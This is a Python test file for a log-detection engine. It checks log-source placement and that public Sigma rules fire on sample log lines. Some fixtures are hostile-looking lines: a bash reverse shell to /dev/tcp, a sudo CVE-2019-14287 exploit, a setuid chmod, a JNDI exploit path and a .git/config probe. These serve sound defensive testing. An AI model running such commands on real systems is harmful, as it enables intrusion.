"""The tables of log sources: what they place, what they keep apart."""

from collections import Counter
from pathlib import Path

import pytest
import yaml

from brandwacht.engines.detection import Event, Matcher, Rule, load_rules
from brandwacht.engines.detection.logsources import ANY_CHANNEL, LogSources, Place, everything, windows
from tests.engines.detection.support import event, received, rule


@pytest.mark.parametrize(
    ("place", "log", "number", "expected"),
    [
        (Place(""), "zeek.dns", None, True),
        (Place("security"), "security", 4624, True),
        (Place("security", frozenset({4625})), "security", 4624, False),
        (Place("linux.*"), "linux.sshd", None, True),
        (Place("linux.*"), "linux", None, False),
        (Place("linux.*"), "ecs.linux.process", None, False),
        (Place(ANY_CHANNEL), "security", 4624, True),
        (Place(ANY_CHANNEL), "", None, True),
        (Place(ANY_CHANNEL), "windows.firewall_log", None, True),
        (Place(ANY_CHANNEL), "linux.sshd", None, False),
        (Place(ANY_CHANNEL), "json.line", None, False),
        (Place(ANY_CHANNEL), "linux", None, True),
    ],
)
def test_what_a_place_covers(place, log, number, expected):
    assert place.covers(log, number) is expected


def test_a_rule_about_a_whole_product_sees_only_that_product():
    anything = {"selection": ["mislukt"]}
    lines = {
        "linux": received("Nov 22 14:05:00 vrr su: mislukt"),
        "windows": event({"A": "mislukt"}),
        "zeek": received({"ts": 1, "uid": "C", "query": "mislukt", "qtype_name": "A"}),
        "fortinet": received("date=2026-11-22 devid=1 logid=2 type=x msg=mislukt"),
    }
    for product in lines:
        matcher = Matcher([rule(anything, logsource={"product": product})])
        assert [name for name, found in lines.items() if matcher.match(found)] == [product]


def test_rules_without_a_product():
    table = everything()
    assert len(table.places({"category": "webserver"})) >= 4
    by_name = {place.channel for place in table.places({"category": "process_creation"})}
    assert {"security", "linux.auditd", "macos.eslogger", "ecs.windows.process"} <= by_name
    assert table.places({"service": "auditd"}) == table.places({"product": "linux", "service": "auditd"})
    assert table.places({}) == ()
    assert table.places({"product": "windows", "category": "webserver"}) == ()


def test_windows_is_placed_as_it_was_with_ecs_beside_it():
    for name, places in windows().products["windows"].categories.items():
        now = everything().places({"product": "windows", "category": name})
        assert now[: len(places)] == places
        assert all(place.channel.startswith("ecs.windows.") for place in now[len(places) :])


def test_why_a_log_source_has_no_place():
    table = everything()
    assert table.why_unplaced({"product": "windows", "service": "security"}) == ""
    assert "Palo Alto" in table.why_unplaced(
        {"product": "paloalto", "category": "file_event", "service": "globalprotect"}
    )
    assert table.why_unplaced({"product": "onbekend"}).endswith(".")
    assert LogSources({}).places({"product": "windows"}) == ()


def logsources(folder: Path) -> list[dict[str, str]]:
    """The log source of every public rule."""
    found = []
    for path in sorted(folder.rglob("*.yml")):
        for text in yaml.load_all(path.read_text(encoding="utf-8"), Loader=yaml.CSafeLoader):
            found.append(
                {key: text["logsource"][key] for key in ("product", "category", "service") if key in text["logsource"]}
            )
    return found


def test_the_public_rules_have_a_place(shared_data):
    """3746 of 3747 rules; the other asks for something that no log of its product tells."""
    table = everything()
    rules = logsources(shared_data / "sigma")
    unplaced = Counter("/".join(sorted(source.values())) for source in rules if not table.places(source))
    assert len(rules) > 3700
    assert unplaced == {"file_event/globalprotect/paloalto": 1}


STAMP = "2026-11-22T13:05:00Z"
REAL = [
    (
        "lnx_sudo_exploit_cve_2019_14287",
        "Nov 22 14:05:00 vrr sudo: jan : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh",
    ),
    (
        "lnx_clamav_relevant_message",
        "Nov 22 14:05:00 vrr clamd[7]: /srv/a.php: Trojan.Agent-1 FOUND",
    ),
    (
        "lnx_auditd_susp_cmds",
        'type=EXECVE msg=audit(1795352700.1:1): argc=3 a0="chmod" a1="u+s" a2="/tmp/a"',
    ),
    (
        "lnx_auditd_load_module_insmod",
        'type=SYSCALL msg=audit(1795352700.1:1): arch=c000003e comm="insmod" exe="/usr/bin/kmod"',
    ),
    (
        "lnx_shell_susp_rev_shells",
        "Nov 22 14:05:00 vrr proef: bash -i >& /dev/tcp/192.0.2.9/4444 0>&1",
    ),
    (
        "proc_creation_lnx_crypto_mining",
        'type=EXECVE msg=audit(1795352700.1:1): argc=2 a0="x" a1="--donate-level=0"',
    ),
    (
        "fortinet_fortigate_new_admin_account_created",
        "date=2026-11-22 devid=1 logid=2 type=event action=Add cfgpath=system.admin",
    ),
    (
        "cisco_cli_clear_logs",
        "<189>45: *Nov 22 13:05:00: %PARSER-5-CFGLOG_LOGGEDCMD: User:jan logged command:clear logging",
    ),
    (
        "okta_network_zone_deactivated_or_deleted",
        {"published": STAMP, "eventType": "zone.delete", "actor": {}},
    ),
    (
        "aws_console_getsignintoken",
        {"eventSource": "signin.amazonaws.com", "eventName": "GetSigninToken", "awsRegion": "eu", "userAgent": "x"},
    ),
    (
        "azure_ad_user_added_to_admin_role",
        {
            "time": STAMP,
            "category": "AuditLogs",
            "operationName": "Add member to role",
            "properties": {"targetResources": [{"displayName": "Company Administrator"}]},
        },
    ),
    (
        "microsoft365_disabling_mfa",
        {"CreationTime": STAMP, "Workload": "x", "Operation": "Disable Strong Authentication."},
    ),
    (
        "kubernetes_audit_secrets_enumeration",
        {"kind": "Event", "apiVersion": "v1", "auditID": "1", "verb": "list", "objectRef": {"resource": "secrets"}},
    ),
    (
        "opencanary_ssh_login_attempt",
        {"logtype": 4002, "node_id": "kanarie"},
    ),
    (
        "zeek_dns_nkn",
        {"ts": 1, "uid": "C", "query": "seed.x.nkn.org", "qtype_name": "A"},
    ),
    (
        "net_dns_susp_b64_queries",
        {"timestamp": STAMP, "flow_id": 1, "event_type": "dns", "dns": {"rrname": "abc==.a.test"}},
    ),
    (
        "web_source_code_enumeration",
        '192.0.2.9 - - [22/Nov/2026:14:05:00 +0100] "GET /.git/config HTTP/1.1" 200 5 "-" "x"',
    ),
    (
        "web_jndi_exploit",
        '192.0.2.9 - - [22/Nov/2026:14:05:00 +0100] "GET /Basic/Command/Base64/x HTTP/1.1" 200 5 "-" "x"',
    ),
    (
        "proxy_ua_rclone",
        "1795352700.1 45 10.0.0.1 TCP_MISS/200 1 GET http://a.test/ - DIRECT/192.0.2.9 text/html",
    ),
    (
        "web_apache_segfault",
        "[Sun Nov 22 14:05:00.5 2026] [core:notice] [pid 1] AH: child exit signal Segmentation Fault",
    ),
]


def test_public_rules_find_what_they_are_about(shared_data):
    paths = {path.stem: path for path in (shared_data / "sigma").rglob("*.yml")}
    rules: dict[str, list[Rule]] = {}
    for name, _payload in REAL:
        loaded = load_rules([(name, paths[name].read_text(encoding="utf-8"))])
        rules[name] = loaded.rules
    matcher = Matcher([item for loaded in rules.values() for item in loaded])
    for name, payload in REAL:
        found = received(payload)
        assert isinstance(found, Event)
        ids = {match.rule_id for match in matcher.match(found)}
        expected = set() if name == "proxy_ua_rclone" else {item.id for item in rules[name]}
        assert expected <= ids, name
        assert not (ids and name == "proxy_ua_rclone")
